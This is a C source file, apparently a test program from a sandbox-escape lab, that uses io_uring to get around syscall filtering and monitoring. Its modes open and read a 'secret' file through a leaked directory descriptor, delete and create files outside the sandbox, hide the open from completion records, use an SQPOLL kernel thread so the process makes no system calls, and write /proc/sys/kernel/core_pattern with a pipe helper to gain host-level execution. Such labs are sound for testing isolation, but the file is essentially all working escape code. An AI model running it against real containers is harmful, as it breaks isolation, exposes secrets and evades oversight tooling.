/* The file part of an escape without a file system call: io_uring opens, and writes, in one io_uring_enter().
 * usage: iouring openat|unlinkat|mkdirat|skip|core_pattern|sqpoll */
#include "common.h"
#include <linux/io_uring.h>
#include <sys/mount.h>
#include <time.h>

static struct { int fd; unsigned *sq_tail, sq_mask, *sq_array, *cq_head, *cq_tail, cq_mask; struct io_uring_sqe *sqes; struct io_uring_cqe *cqes; } ring;

static void *map(size_t size, long offset)
{
	void *at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring.fd, offset);
	if (at == MAP_FAILED)
		lab_die("map the ring");
	return at;
}

static void set_up(unsigned flags)
{
	struct io_uring_params p = {.flags = flags, .sq_thread_idle = 10000};
	ring.fd = (int)syscall(SYS_io_uring_setup, 8, &p);
	if (ring.fd < 0)
		lab_die("io_uring_setup");
	char *sq = map(p.sq_off.array + p.sq_entries * sizeof(unsigned), IORING_OFF_SQ_RING);
	char *cq = map(p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), IORING_OFF_CQ_RING);
	ring.sqes = map(p.sq_entries * sizeof(struct io_uring_sqe), IORING_OFF_SQES);
	ring.sq_tail = (unsigned *)(sq + p.sq_off.tail);
	ring.sq_mask = *(unsigned *)(sq + p.sq_off.ring_mask);
	ring.sq_array = (unsigned *)(sq + p.sq_off.array);
	ring.cq_head = (unsigned *)(cq + p.cq_off.head);
	ring.cq_tail = (unsigned *)(cq + p.cq_off.tail);
	ring.cq_mask = *(unsigned *)(cq + p.cq_off.ring_mask);
	ring.cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
}

static unsigned filled;

/* The next entry to fill; nobody looks at it before publish(). */
static struct io_uring_sqe *next_entry(void)
{
	unsigned tail = *ring.sq_tail + filled++;
	struct io_uring_sqe *entry = &ring.sqes[tail & ring.sq_mask];
	memset(entry, 0, sizeof(*entry));
	ring.sq_array[tail & ring.sq_mask] = tail & ring.sq_mask;
	return entry;
}

static void publish(void)
{
	__atomic_store_n(ring.sq_tail, *ring.sq_tail + filled, __ATOMIC_RELEASE);
	filled = 0;
}

/* The result of the last completion that is there. */
static int last_result(void)
{
	int result = 0;
	while (*ring.cq_head != __atomic_load_n(ring.cq_tail, __ATOMIC_ACQUIRE))
		result = ring.cqes[(*ring.cq_head)++ & ring.cq_mask].res;
	return result;
}

/* Submits `count` entries and waits for `completions`; the result is the last completion's. */
static int submit(unsigned count, unsigned completions)
{
	publish();
	lab_violate("io_uring_enter", SYS_io_uring_enter, ring.fd, count, completions, IORING_ENTER_GETEVENTS, NULL, 0);
	return last_result();
}

/* Registers one empty place for a file that gets no descriptor. */
static void make_place(void)
{
	int none[1] = {-1};
	if (syscall(SYS_io_uring_register, ring.fd, IORING_REGISTER_FILES, none, 1))
		lab_die("io_uring_register");
}

/* Opens the secret into that place, reads it from there. */
static void enter_open_and_read(char *text, unsigned size, unsigned char open_flags)
{
	struct io_uring_sqe *entry = next_entry();
	entry->opcode = IORING_OP_OPENAT;
	entry->fd = (int)lab_env_num("LAB_FD");
	entry->addr = (uintptr_t)"secret";
	entry->open_flags = O_RDONLY;
	entry->file_index = 1;
	entry->flags = IOSQE_IO_LINK | open_flags;
	entry = next_entry();
	entry->opcode = IORING_OP_READ;
	entry->flags = IOSQE_FIXED_FILE;
	entry->addr = (uintptr_t)text;
	entry->len = size;
}

static void print_proof(const char *text, int result, const char *what)
{
	if (result <= 0) {
		errno = -result;
		lab_die(what);
	}
	printf("PROOF %s\n", text);
	fflush(stdout);
}

static void read_secret(void)
{
	struct io_uring_sqe *entry = next_entry();
	entry->opcode = IORING_OP_OPENAT;
	entry->fd = (int)lab_env_num("LAB_FD");
	entry->addr = (uintptr_t)"secret";
	entry->open_flags = O_RDONLY;
	int fd = submit(1, 1);
	if (fd < 0) {
		errno = -fd;
		lab_die("openat by io_uring");
	}
	lab_print_fd(fd);
}

/* One call on a name below the leaked directory, with what that call alone may do as proof. */
static void change(unsigned char opcode, const char *name, unsigned mode)
{
	struct io_uring_sqe *entry = next_entry();
	entry->opcode = opcode;
	entry->fd = (int)lab_env_num("LAB_FD");
	entry->addr = (uintptr_t)name;
	entry->len = mode;
	int result = submit(1, 1);
	if (result < 0) {
		errno = -result;
		lab_die(name);
	}
}

/* The open completes without a word and leaves no descriptor: when the call returns, only the buffer tells. */
static void read_silently(void)
{
	static char text[512];
	make_place();
	enter_open_and_read(text, sizeof(text) - 1, IOSQE_CQE_SKIP_SUCCESS);
	print_proof(text, submit(2, 1), "open and read by io_uring");
}

/* Waits for completions without a system call: the clock is read from the vDSO. */
static int await(unsigned count)
{
	struct timespec start, now;
	clock_gettime(CLOCK_MONOTONIC, &start);
	do
		clock_gettime(CLOCK_MONOTONIC, &now);
	while (now.tv_sec - start.tv_sec < 6 && __atomic_load_n(ring.cq_tail, __ATOMIC_ACQUIRE) - *ring.cq_head < count);
	if (*ring.cq_tail - *ring.cq_head >= count)
		return 1;
	errno = ETIME;
	lab_die("wait for the kernel thread");
	return 0;
}

/* The kernel thread of a new ring sleeps: an empty entry and a call wake it, and from then on it looks by itself. */
static void wake_thread(void)
{
	next_entry()->opcode = IORING_OP_NOP;
	publish();
	if (syscall(SYS_io_uring_enter, ring.fd, 0, 0, IORING_ENTER_SQ_WAKEUP, NULL, 0) < 0)
		lab_die("io_uring_enter(SQ_WAKEUP)");
	await(1);
	last_result();
}

/* A kernel thread takes the entries from memory: between the set-up and the proof this process makes no system call at all. */
static void read_without_calls(void)
{
	static char text[512];
	make_place();
	wake_thread();
	enter_open_and_read(text, sizeof(text) - 1, 0);
	publish();
	*lab_after = await(2);
	print_proof(text, last_result(), "open and read by the kernel thread");
}

/* open and write linked, with a descriptor that exists in the ring only. */
static void write_core_pattern(void)
{
	static const char pattern[] = "|/proc/%P/root/umh_mark";
	lab_place_helper();
	mkdir("/lab_proc", 0755);
	if (mount("proc", "/lab_proc", "proc", 0, NULL))
		lab_die("mount proc");
	make_place();
	struct io_uring_sqe *entry = next_entry();
	entry->opcode = IORING_OP_OPENAT;
	entry->fd = AT_FDCWD;
	entry->addr = (uintptr_t)"/lab_proc/sys/kernel/core_pattern";
	entry->open_flags = O_WRONLY;
	entry->file_index = 1;
	entry->flags = IOSQE_IO_LINK;
	entry = next_entry();
	entry->opcode = IORING_OP_WRITE;
	entry->fd = 0;
	entry->flags = IOSQE_FIXED_FILE;
	entry->addr = (uintptr_t)pattern;
	entry->len = sizeof(pattern) - 1;
	int result = submit(2, 2);
	if (result < 0) {
		errno = -result;
		lab_die("write core_pattern by io_uring");
	}
	lab_dump_core();
}

int main(int argc, char **argv)
{
	const char *how = argc > 1 ? argv[1] : "openat";
	set_up(strcmp(how, "sqpoll") ? 0 : IORING_SETUP_SQPOLL);
	if (!strcmp(how, "core_pattern"))
		write_core_pattern();
	else if (!strcmp(how, "unlinkat"))
		change(IORING_OP_UNLINKAT, "prey", 0);
	else if (!strcmp(how, "mkdirat"))
		change(IORING_OP_MKDIRAT, "made", 0755);
	else if (!strcmp(how, "skip"))
		read_silently();
	else if (!strcmp(how, "sqpoll"))
		read_without_calls();
	else
		read_secret();
	return 0;
}
